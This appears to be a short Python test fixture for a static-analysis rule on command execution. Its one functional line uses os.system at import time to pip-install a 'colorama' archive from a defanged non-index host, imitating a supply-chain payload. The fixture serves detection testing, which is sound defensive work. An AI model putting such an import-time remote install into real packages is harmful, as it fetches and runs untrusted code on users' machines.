import os
import sys

# On import, another package is installed from an address that is not the package index (defanged host).
# ruleid: code/command-execution
os.system(f"{sys.executable} -m pip install https://files.example.invalid/packages/colorama-0.4.6.tar.gz")

__version__ = '0.4.6'
